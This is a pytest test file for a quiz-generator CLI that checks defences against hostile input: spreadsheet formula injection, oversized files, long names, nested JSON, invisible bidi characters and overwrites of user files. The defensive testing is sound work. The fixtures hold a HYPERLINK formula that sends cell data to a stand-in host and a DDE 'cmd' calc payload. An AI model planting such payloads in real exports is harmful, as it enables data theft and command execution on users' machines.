"""Hostile input, round three (issue 20): no formulas, no crash, no file of the teacher's lost."""

from __future__ import annotations

import csv
import io
import os
import sys
import zipfile
from pathlib import Path

import pytest
from typer.testing import CliRunner

import quizgen.draft.files as draft_files
from quizgen.cli import app
from quizgen.errors import QuizgenError
from quizgen.quiz.questions import EntityRef, MultipleChoice, Option, Quiz, SpeakerOf
from quizgen.quiz.select import build_quiz
from quizgen.renderers import get_renderer
from quizgen.renderers.base import RenderOptions

OPTIONS = RenderOptions(name="quiz", seed=0, timestamp=1_700_000_000)
# What a spreadsheet takes for a formula (OWASP "CSV Injection"); TAB and CR are cleaned to a
# space by the renderers, which must not leave the = first either.
FORMULAS = ('=HYPERLINK("http://evil.example/?"&B3,"click")', "+1+1", "-2+3", "@SUM(1,2)",
            "\t=1+1", "\r=2+2", " =3+3")


def _formula_quiz() -> Quiz:
    """A fact base whose names start with formula characters, and a question whose prompt and
    options do too."""
    from factbases import make_base, person, quote

    people = [person(f"p{n}", text) for n, text in enumerate(FORMULAS)]
    quotes = [quote(f"q{n}", f"=cmd|' /C calc'!A{n} is what we are quoting here", f"p{n}")
              for n in range(len(FORMULAS))]
    base = make_base(*people, *quotes, base_id="formulas", title="=1+1 title")
    quiz = build_quiz((base,), seed=1, kinds=["who-said-it"])
    odd = MultipleChoice(
        id="who-said-it-9999", kind="who-said-it", factbase="formulas", prompt="=1+1",
        ask=SpeakerOf("q0"), options=tuple(Option(text, EntityRef(f"p{n}"))
                                           for n, text in enumerate(FORMULAS[:4])),
        answer=0, explanation=())
    assert quiz.questions  # who-said-it questions with the names as options
    return Quiz(title=quiz.title, bases=quiz.bases, questions=(*quiz.questions, odd))


def _assert_no_formula(cells: list[str]) -> None:
    for cell in cells:
        assert cell.lstrip(" \t\r\n")[:1] not in ("=", "+", "-", "@"), repr(cell)


def test_blooket_cells_never_start_a_formula() -> None:
    """Every Blooket CSV cell that would start with = + - @ starts with a quote instead."""
    (data,) = get_renderer("blooket")(_formula_quiz(), options=OPTIONS).values()
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"))))
    cells = [cell for row in rows[2:] for cell in row]
    _assert_no_formula(cells)
    assert "'=1+1" in cells  # the prompt, as written after the quote
    assert """'=HYPERLINK("http://evil.example/?"&B3,"click")""" in cells
    assert "'@SUM(1,2)" in cells and "'-2+3" in cells


def test_quizlet_cells_never_start_a_formula() -> None:
    """Every Quizlet term and definition that would start a formula starts with a quote."""
    (data,) = get_renderer("quizlet")(_formula_quiz(), options=OPTIONS).values()
    cells = [cell for line in data.decode("utf-8").splitlines() for cell in line.split("\t")]
    _assert_no_formula(cells)
    assert any(cell.startswith("'=1+1") for cell in cells)


def test_kahoot_cells_stay_text() -> None:
    """The Kahoot sheet holds formula-like texts as shared strings, never as formulas."""
    import openpyxl

    (data,) = get_renderer("kahoot")(_formula_quiz(), options=OPTIONS).values()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet
    book = openpyxl.load_workbook(io.BytesIO(data))
    values = [cell for row in book.active.iter_rows() for cell in row if cell.value is not None]
    texts = [cell for cell in values if isinstance(cell.value, str)]
    assert all(cell.data_type == "s" for cell in texts)
    assert "=1+1" in [cell.value for cell in texts]


def test_formula_neutralising_keeps_plain_text() -> None:
    """Texts that start otherwise are left exactly as they are."""
    from quizgen.renderers.platform import sheet_cell

    for text in ("Who said it?", "51.2%", "“=quoted”", "a = b", "e-mail", ""):
        assert sheet_cell(text) == text
    for text in FORMULAS:
        assert sheet_cell(text) == "'" + text


# ---- 7. draft and init --from check the size before reading ------------------------------------

@pytest.mark.parametrize("command", ["draft", "init"])
def test_a_huge_article_is_refused_before_it_is_read(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, command: str) -> None:
    """A 2 GB sparse article is refused on its size, and at most the limit + 1 bytes are read."""
    huge = tmp_path / "huge.txt"
    with huge.open("wb") as handle:
        handle.truncate(2 * 1024**3)
    reads: list[int] = []
    real_read_bytes = Path.read_bytes

    def spying_read_bytes(path: Path) -> bytes:
        if path == huge:
            reads.append(-1)  # a whole-file read
        return real_read_bytes(path)

    monkeypatch.setattr(Path, "read_bytes", spying_read_bytes)
    monkeypatch.chdir(tmp_path)
    args = ["draft", str(huge)] if command == "draft" else ["init", "big", "--from", str(huge)]
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 1, result.output
    assert "too large" in result.output and "2,147,483,648 bytes" in result.output
    assert reads == []


def test_an_article_whose_size_lies_is_read_one_byte_past_the_limit(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A file whose size says 0 (as /proc files do) is read only to the limit + 1 byte."""
    big = tmp_path / "big.txt"
    big.write_bytes(b"word " * (draft_files.MAX_ARTICLE_BYTES // 5 + 10))

    class Zero:
        st_size = 0

    monkeypatch.setattr(draft_files.os, "fstat", lambda fd: Zero())
    with pytest.raises(QuizgenError) as caught:
        draft_files.read_article(big)
    (problem,) = caught.value.problems
    assert problem.found == f"more than {draft_files.MAX_ARTICLE_BYTES:,} bytes"


# ---- 8. a long --name ----------------------------------------------------------------------------

@pytest.mark.parametrize("length", [251, 300, 5000])
def test_a_long_name_gives_the_usual_error(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                           length: int) -> None:
    """`draft --name` of 251+ characters is a located error, exit 1, not an OSError."""
    monkeypatch.chdir(tmp_path)
    Path("a.txt").write_text("Headline\nThe mayor said it rained.\n", encoding="utf-8")
    result = CliRunner().invoke(app, ["draft", "a.txt", "--name", "a" * length])
    assert result.exit_code == 1, result.output
    assert "internal error" not in result.output and "OSError" not in result.output
    assert "--name" in result.output and "too long" in result.output
    result = CliRunner().invoke(app, ["init", "b" * length])
    assert result.exit_code == 1 and "too long" in result.output, result.output
    assert not Path("content").exists() or not any(Path("content").rglob("*.yaml"))


def test_a_long_article_file_name_makes_a_shorter_name(tmp_path: Path,
                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    """An article whose file name is 240 characters drafts under a name cut to the limit."""
    monkeypatch.chdir(tmp_path)
    article = Path("x" * 240 + ".txt")
    article.write_text("Headline\nThe mayor said it rained.\n", encoding="utf-8")
    result = CliRunner().invoke(app, ["draft", str(article)])
    assert result.exit_code == 0, result.output
    assert Path("content", "x" * draft_files.MAX_NAME + ".yaml").is_file()


# ---- 9. a corrupted manifest --------------------------------------------------------------------

def test_a_deeply_nested_manifest_is_a_clean_error(project: Path) -> None:
    """A previous Anki manifest of 100,000 nested arrays: exit 1, the file named with its folder."""
    out = project / "decks"
    out.mkdir()
    manifest = out / "venezuela-post-election.manifest.json"
    manifest.write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    result = CliRunner().invoke(app, ["build", "--to", "anki", "--out", str(out)])
    assert result.exit_code == 1, result.output
    assert "internal error" not in result.output and "RecursionError" not in result.output
    assert str(manifest) in result.output
    assert "nested too deeply" in result.output


# ---- 10. SIGTERM while the worksheet is laid out ------------------------------------------------

def test_sigterm_during_pdf_layout_exits_143_quietly(project: Path,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    """The signal arriving inside reportlab's layout (which re-raises a copy of any exception
    with its own message) still exits 143 and prints nothing of reportlab's."""
    import importlib
    import signal

    from quizgen.renderers.worksheet import para

    cli_app = importlib.import_module("quizgen.cli.app")  # quizgen.cli.app is also the app

    from reportlab.platypus import KeepTogether

    real_wrap = para.Paragraph.wrap
    calls = {"inside": 0}

    def wrap(self: para.Paragraph, width: float, height: float) -> tuple[float, float]:
        frame = sys._getframe(1)
        while frame is not None and not isinstance(frame.f_locals.get("self"), KeepTogether):
            frame = frame.f_back  # type: ignore[assignment]  # None ends the walk
        if frame is not None:  # laid out inside a KeepTogether, whose wrap catches everything
            calls["inside"] += 1
            if calls["inside"] == 3:
                cli_app._stop(signal.SIGTERM, None)
        return real_wrap(self, width, height)

    monkeypatch.setattr(para.Paragraph, "wrap", wrap)
    result = CliRunner().invoke(app, ["build", "--to", "worksheet", "--out", "out"])
    assert calls["inside"] >= 3
    assert result.exit_code == 143, (result.exit_code, result.output)
    assert "KeepTogether" not in result.output and "raised by" not in result.output
    assert result.output.strip() == ""
    assert not any(name.endswith(".tmp") for name in os.listdir(project / "out")) \
        if (project / "out").exists() else True


# ---- 11. invisible characters -------------------------------------------------------------------

_BIDI = "".join(map(chr, [*range(0x202A, 0x202F), *range(0x2066, 0x206A)]))
_RAW_INVISIBLE = f"[{_BIDI}\u200b\u2060\ufeff]"
INVISIBLE_ARTICLE = (
    "Floods close the river road\n"
    "The mayor, Ana\u200b Lopez, said the town would \u202eetinu\u202c again after the flood. "
    "Ana\u200b Lopez said: \u201cWe will \u2066rebuild\u2069 the bridge together.\u201d\n"
    "The council leader, Tom\u200bReyes, said \u201cthe repairs will take \u202dtwo\u202c"
    " years.\u201d\n")


def test_the_draft_writes_no_invisible_character_raw(tmp_path: Path,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    """Bidi overrides, isolates and zero-width spaces appear in the draft only as \\u escapes,
    with a check: note; the draft loads and its excerpts are the article's."""
    import re

    from quizgen.factbase.loader import load_factbase
    from quizgen.factbase.provenance import check_provenance

    monkeypatch.chdir(tmp_path)
    Path("floods.txt").write_text(INVISIBLE_ARTICLE, encoding="utf-8")
    result = CliRunner().invoke(app, ["draft", "floods.txt"])
    assert result.exit_code == 0, result.output
    drafted = Path("content/floods.yaml").read_text(encoding="utf-8")
    assert re.search(_RAW_INVISIBLE, drafted) is None
    assert "\\u202e" in drafted and "\\u2066" in drafted
    assert "# check: the article holds invisible characters (U+200B, U+202C" in drafted
    base = load_factbase(Path("content/floods.yaml"))
    assert check_provenance(base) == []


def test_a_zero_width_space_does_not_split_a_name() -> None:
    """"Ana\u200b Lopez" and "Tom\u200bReyes" are each one person, not two."""
    import yaml

    from quizgen.draft import draft_factbase

    doc = yaml.safe_load(draft_factbase(INVISIBLE_ARTICLE, name="floods"))
    names = [person["name"] for person in doc["people"]]
    assert "Ana Lopez" in names and "Tom Reyes" in names, names
    assert not {"Ana", "Lopez", "Tom", "Reyes"} & set(names), names


def test_the_web_quiz_shows_no_invisible_character_raw() -> None:
    """A quiz whose names and quotes hold overrides and zero-width spaces renders without them."""
    import re

    from factbases import make_base, person, quote

    people = [person("p0", "Ana\u200b Lopez \u202eetinu\u202c"), person("p1", "Tom \u2067Reyes"),
              person("p2", "Kim\ufeff Park"), person("p3", "Lee \u2068Chan\u2069")]
    quotes = [quote(f"q{n}", f"We will \u202dunite\u202c and rebuild {n} times", f"p{n}")
              for n in range(4)]
    base = make_base(*people, *quotes, base_id="hidden", title="\u202eTitle")
    quiz = build_quiz((base,), seed=1, kinds=["who-said-it"])
    assert quiz.questions
    (page,) = get_renderer("html")(quiz, options=OPTIONS).values()
    text = page.decode("utf-8")
    assert re.search(_RAW_INVISIBLE, text) is None
    assert "Ana Lopez etinu" in text or "Ana Lopez etinu" in text.replace("\u00a0", " ")


# ---- 1. never over the teacher's files ----------------------------------------------------------

_FORMATS = ("anki", "blooket", "gift", "html", "json", "kahoot", "moodle", "qti", "quizlet",
            "worksheet")
_BASE = Path("content/venezuela-post-election.yaml")
_ARTICLE = Path("content/sources/venezuela-post-election.txt")


def _invoke(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(app, [*args, "--count", "4", "--quiet"])
    return result.exit_code, result.output


def _names(fmt: str) -> list[str]:
    """The files the format writes for the bundled fact base (rendered from a small quiz)."""
    from quizgen.pipeline import render_format

    options = RenderOptions(name=_BASE.stem, seed=0, timestamp=0)
    return sorted(render_format(fmt, _formula_quiz(), options=options))


def test_every_format_is_covered() -> None:
    """The formats tested here are every format quizgen has."""
    from quizgen.renderers import RENDERERS

    assert set(_FORMATS) == set(RENDERERS)


@pytest.mark.parametrize("fmt", _FORMATS)
def test_a_build_never_writes_over_its_fact_base(project: Path, fmt: str) -> None:
    """A fact base saved under the name of the format's output (`mini.json`) and built with
    `--out` its own folder is refused with a located error, and left as it was."""
    copy = Path("content") / _names(fmt)[0]
    copy.write_bytes(_BASE.read_bytes())  # its `id:` names the outputs, not the file name
    before = copy.read_bytes()
    code, output = _invoke("build", str(copy), "--to", fmt, "--out", "content")
    assert code == 1, output
    assert copy.read_bytes() == before
    assert "quizgen never writes over its own input" in output, output
    assert str(copy) in output and "Traceback" not in output


@pytest.mark.parametrize("fmt", ["gift", "json", "quizlet", "html", "qti"])
@pytest.mark.parametrize("target", [_BASE, _ARTICLE])
def test_an_export_to_its_own_input_is_refused(project: Path, fmt: str, target: Path) -> None:
    """`export FMT base.yaml --out base.yaml` (or `--out sources/base.txt`, the article) exits 1
    with the path in the message, and the file is unchanged."""
    before = target.read_bytes()
    code, output = _invoke("export", fmt, str(_BASE), "--out", str(target))
    assert code == 1, output
    assert target.read_bytes() == before
    assert "reads" in output and str(target) in output, output


def test_out_dot_beside_the_fact_base_is_refused(project: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    """A fact base saved as mini.json and built `--out . --to json` is not replaced by its JSON."""
    monkeypatch.chdir(project / "content")
    Path("mini.json").write_bytes(Path(_BASE.name).read_bytes().replace(
        b"\nid: ", b"\n# id: "))
    before = Path("mini.json").read_bytes()
    code, output = _invoke("build", "mini.json", "--out", ".", "--to", "json")
    assert code == 1, output
    assert Path("mini.json").read_bytes() == before


def test_a_file_quizgen_did_not_write_is_kept(project: Path) -> None:
    """An existing file of the teacher's at an output path is refused; what quizgen wrote is
    replaced on the next build, and a file already holding the same bytes may stay."""
    Path("notes.txt").write_text("my own lesson notes\n", encoding="utf-8")
    code, output = _invoke("export", "gift", str(_BASE), "--out", "notes.txt")
    assert code == 1 and "did not write" in output, output
    assert Path("notes.txt").read_text(encoding="utf-8") == "my own lesson notes\n"
    code, output = _invoke("export", "gift", str(_BASE), "--out", "week3.txt")
    assert code == 0, output
    code, output = _invoke("export", "gift", str(_BASE), "--out", "week3.txt", "--seed", "2")
    assert code == 0, output  # quizgen's own file, listed in .quizgen-outputs
    same = Path("same")
    same.mkdir()
    code, output = _invoke("export", "gift", str(_BASE), "--out", "same/a.txt")
    assert code == 0
    data = Path("same/a.txt").read_bytes()
    Path("same/.quizgen-outputs").unlink()
    code, output = _invoke("export", "gift", str(_BASE), "--out", "same/a.txt")
    assert code == 0, output  # the same bytes: nothing is lost
    assert Path("same/a.txt").read_bytes() == data
    Path("folder").mkdir()
    Path("folder/venezuela-post-election.html").write_text("<p>mine</p>", encoding="utf-8")
    code, output = _invoke("build", str(_BASE), "--to", "html,json", "--out", "folder")
    assert code == 1 and "did not write" in output, output
    assert not Path("folder/venezuela-post-election.json").exists()  # all or nothing


def test_a_previous_file_one_format_reads_is_not_replaced_by_another(tmp_path: Path) -> None:
    """The previous manifest the deck reads may be replaced by the deck alone."""
    from quizgen.output import Batch, Guard

    manifest = tmp_path / "x.manifest.json"
    manifest.write_text("{}", encoding="utf-8")
    guard = Guard([])
    guard.reads(manifest, "anki")
    guard.current = "json"
    with pytest.raises(QuizgenError, match="the previous anki build's file"), \
            Batch(guard=guard) as batch:
        batch.add(manifest, b"[]")
    assert manifest.read_text(encoding="utf-8") == "{}"


def test_draft_never_writes_over_the_article_it_reads(tmp_path: Path,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    """An article saved as content/notes.yaml drafted with --force is refused, not replaced."""
    monkeypatch.chdir(tmp_path)
    Path("content").mkdir()
    article = Path("content/notes.yaml")
    article.write_text("Headline\nThe mayor said it rained.\n", encoding="utf-8")
    result = CliRunner().invoke(app, ["draft", str(article), "--force"])
    assert result.exit_code == 1, result.output
    assert "over the article it reads" in result.output
    assert article.read_text(encoding="utf-8") == "Headline\nThe mayor said it rained.\n"


def test_the_record_itself_is_no_output_path(tmp_path: Path) -> None:
    """A file named like the record is refused as an output: the record is quizgen's."""
    from quizgen.output import RECORD, Guard, write_atomic

    with pytest.raises(QuizgenError, match="record"):
        write_atomic(tmp_path / RECORD, b"x", guard=Guard([]))
    assert not (tmp_path / RECORD).exists()
